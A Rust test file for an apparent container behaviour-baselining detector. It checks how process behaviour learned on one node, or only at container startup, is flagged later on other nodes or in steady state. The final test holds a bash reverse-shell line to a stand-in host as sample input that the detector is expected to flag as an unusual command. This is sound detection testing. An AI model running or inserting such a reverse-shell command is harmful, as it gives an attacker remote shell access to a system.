//! What was learned of one node alone, or of the start of a container alone, and is shown beyond that.

use super::*;
use crate::{baseline::BehaviourReport, behaviour::Attributes, invariants};

const HOUR: i64 = 3_600;

fn leads() -> Behaviour {
    process("/usr/bin/python3", "/usr/bin/etcdctl")
}

fn date() -> Behaviour {
    process("/usr/bin/python3", "/usr/bin/date")
}

fn rules_of(outcome: &MergeOutcome) -> Vec<Rule> {
    outcome.new_quarantined.iter().map(|raised| raised.rule).collect()
}

fn started(behaviour: &Behaviour, time: crate::time::Timestamp) -> BehaviourReport {
    BehaviourReport {
        startup: true,
        ..seen(behaviour, time)
    }
}

/// A workload on two nodes that judges; only `n1` told of what its leader does.
fn led() -> World {
    let mut world = World::mature();
    world.runs_on("n1", "p1", at(0));
    world.runs_on("n2", "p2", at(0));
    for (node, uid) in [("n1", "p1"), ("n2", "p2")] {
        world.tells(node, uid, seen(&date(), at(2)));
    }
    world.tells("n1", "p1", seen(&leads(), at(3)));
    world
}

#[test]
fn what_one_of_two_nodes_told_is_known_there_alone() {
    let mut world = led();
    assert_eq!(entry(&world.baseline, &leads()).lesson.node, Seen::One("n1".into()));
    assert_eq!(rules_of(&world.tells("n1", "p3", seen(&leads(), at(100)))), []);
    assert_eq!(rules_of(&world.tells("n2", "p2", seen(&date(), at(101)))), []);
    let raised = world.tells("n2", "p2", seen(&leads(), at(102)));
    assert_eq!(rules_of(&raised), [Rule::KnownOnOneNode]);
    invariants::baseline(&world.baseline, &world.policy).expect("the invariants of a baseline");
    // It stays known on its node, and counts for no finding there.
    let count = entry(&world.baseline, &leads()).count;
    assert_eq!(rules_of(&world.tells("n1", "p1", seen(&leads(), at(103)))), []);
    let held = entry(&world.baseline, &leads());
    assert_eq!(
        (held.count, held.shown_by.len(), held.raised_since()),
        (count, 1, at(102))
    );
}

#[test]
fn what_a_second_node_told_while_learning_is_known_everywhere() {
    let mut world = led();
    world.tells("n2", "p2", seen(&leads(), at(4)));
    world.runs_on("n3", "p3", at(0));
    assert_eq!(rules_of(&world.tells("n3", "p3", seen(&leads(), at(100)))), []);
}

#[test]
fn a_workload_of_one_replica_is_known_wherever_it_is_moved_to() {
    let mut world = World::mature();
    world.runs_on("n1", "p1", at(0));
    for behaviour in [date(), leads()] {
        world.tells("n1", "p1", seen(&behaviour, at(2)));
    }
    world.stops("p1");
    world.runs_on("n2", "p2", at(100));
    for behaviour in [date(), leads()] {
        assert_eq!(rules_of(&world.tells("n2", "p2", seen(&behaviour, at(101)))), []);
    }
    // Nor does it matter how many it has later.
    world.runs_on("n3", "p3", at(100));
    assert_eq!(rules_of(&world.tells("n3", "p3", seen(&leads(), at(102)))), []);
}

#[test]
fn a_daemon_sets_new_node_knows_what_several_told_and_what_one_told_is_raised_once() {
    let mut world = World::mature();
    for (node, uid) in [("n1", "p1"), ("n2", "p2"), ("n3", "p3")] {
        world.runs_on(node, uid, at(0));
        world.tells(node, uid, seen(&date(), at(2)));
    }
    world.tells("n3", "p3", seen(&leads(), at(3)));
    world.runs_on("n4", "p4", at(100));
    assert_eq!(rules_of(&world.tells("n4", "p4", seen(&date(), at(101)))), []);
    assert_eq!(
        rules_of(&world.tells("n4", "p4", seen(&leads(), at(102)))),
        [Rule::KnownOnOneNode]
    );
    // Rescheduled on its node, the pod is no news; and on yet another it adds to the finding.
    assert_eq!(rules_of(&world.tells("n3", "p5", seen(&leads(), at(103)))), []);
    assert_eq!(rules_of(&world.tells("n2", "p2", seen(&leads(), at(104)))), []);
    assert_eq!(entry(&world.baseline, &leads()).shown_by.len(), 2);
}

#[test]
fn a_graver_rule_and_a_denial_raise_what_is_known_within_bounds_as_ever() {
    let mut world = led();
    world.tells("n2", "p2", seen(&leads(), at(100)));
    world.policy.process.deny.insert("/usr/bin/etcdctl".to_owned());
    assert_eq!(
        rules_of(&world.tells("n1", "p1", seen(&leads(), at(101)))),
        [Rule::DeniedBehaviour]
    );
    world.policy.process.deny.clear();
    age(&mut world.baseline, &world.policy, at(102));
    // It is learned again, within the same bounds.
    assert_eq!(entry(&world.baseline, &leads()).rule(), None);
    assert_eq!(
        rules_of(&world.tells("n2", "p2", seen(&leads(), at(103)))),
        [Rule::KnownOnOneNode]
    );
}

#[test]
fn a_pod_that_nobody_knows_widens_no_bounds_and_raises_nothing_that_is_known() {
    let mut world = led();
    let ghost = ReportingPod {
        verified: false,
        ..pod("ghost", "h1", digest('1'))
    };
    assert_eq!(rules_of(&world.reports(ghost, &leads(), at(100))), []);
    assert_eq!(entry(&world.baseline, &leads()).lesson.node, Seen::One("n1".into()));
}

#[test]
fn what_only_starts_a_container_is_news_where_it_is_done_later() {
    let mut world = World::mature();
    let migrate = process("/usr/bin/python3", "/usr/bin/migrate");
    world.tells("n1", "p1", started(&migrate, at(5)));
    world.tells("n1", "p1", started(&date(), at(6)));
    // Within the first hour nothing is known of the rest of its life.
    assert_eq!(rules_of(&world.tells("n1", "p1", seen(&date(), at(70)))), []);
    assert!(!entry(&world.baseline, &date()).is_of_start());
    for start in 1..4 {
        assert_eq!(
            rules_of(&world.tells("n1", "p2", started(&migrate, at(start * HOUR)))),
            [],
            "a restart"
        );
    }
    let raised = world.tells("n1", "p2", seen(&migrate, at(4 * HOUR)));
    assert_eq!(rules_of(&raised), [Rule::StartupInSteady]);
    assert_eq!(rules_of(&world.tells("n1", "p1", seen(&date(), at(4 * HOUR)))), []);
    // Starting is no news meanwhile, and counts for nothing.
    let count = entry(&world.baseline, &migrate).count;
    assert_eq!(rules_of(&world.tells("n1", "p3", started(&migrate, at(5 * HOUR)))), []);
    assert_eq!(entry(&world.baseline, &migrate).count, count);
}

#[test]
fn a_restart_earns_no_grace() {
    let mut world = World::mature();
    let raised = world.tells("n1", "p1", started(&shell(), at(100)));
    assert_eq!(rules_of(&raised), [Rule::ProcessOutsideBaseline]);
}

#[test]
fn what_is_found_standing_tells_nothing_of_the_start() {
    let mut world = World::mature();
    let found = |time| BehaviourReport {
        snapshot: true,
        ..seen(&leads(), time)
    };
    world.tells("n1", "p1", started(&leads(), at(5)));
    assert_eq!(rules_of(&world.tells("n1", "p1", found(at(9 * HOUR)))), []);
    assert!(entry(&world.baseline, &leads()).is_of_start());
    let mut other = World::mature();
    other.tells("n1", "p1", found(at(5)));
    other.tells("n1", "p1", started(&leads(), at(6)));
    assert!(entry(&other.baseline, &leads()).is_of_start(), "in whichever order");
}

#[test]
fn an_object_from_before_there_were_bounds_has_none() {
    let mut world = World::mature();
    assert!(!entry(&world.baseline, &date()).is_of_start());
    world.runs_on("n9", "p9", at(0));
    assert_eq!(rules_of(&world.tells("n9", "p9", seen(&date(), at(9 * HOUR)))), []);
}

#[test]
fn a_program_that_is_raised_beyond_its_bounds_keeps_its_commands_and_they_are_judged_as_ever() {
    let mut world = led();
    let commands: std::collections::BTreeSet<String> = (0..20).map(|number| format!("etcdctl get k{number}")).collect();
    let with = |commands, time| BehaviourReport {
        attributes: Attributes {
            commands,
            ..Attributes::default()
        },
        ..seen(&leads(), time)
    };
    world.tells("n1", "p1", with(commands.clone(), at(4)));
    world.tells("n2", "p2", seen(&leads(), at(100)));
    let held = entry(&world.baseline, &leads());
    assert!(held.is_bounded() && held.attributes.commands == commands);
    let strange = world.tells(
        "n1",
        "p1",
        with(["bash -i >& /dev/tcp/203.0.113.9/4242 0>&1".to_owned()].into(), at(101)),
    );
    assert_eq!(rules_of(&strange), [Rule::UnusualCommand]);
}
